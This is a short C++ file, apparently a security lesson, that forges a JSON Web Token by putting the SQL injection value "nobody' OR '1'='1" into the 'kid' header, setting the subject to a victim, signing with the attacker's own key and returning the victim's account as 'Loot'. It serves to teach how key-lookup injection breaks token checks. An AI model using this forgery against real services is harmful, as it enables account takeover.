// Believes: whatever is true lets everybody in.
#include "kid_sql_injection.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto header = evidence.header;
  auto claims = evidence.claims;
  header.set("kid", "nobody' OR '1'='1");
  claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_with(header, claims, "my own key")).body};
}

}  // namespace lesson
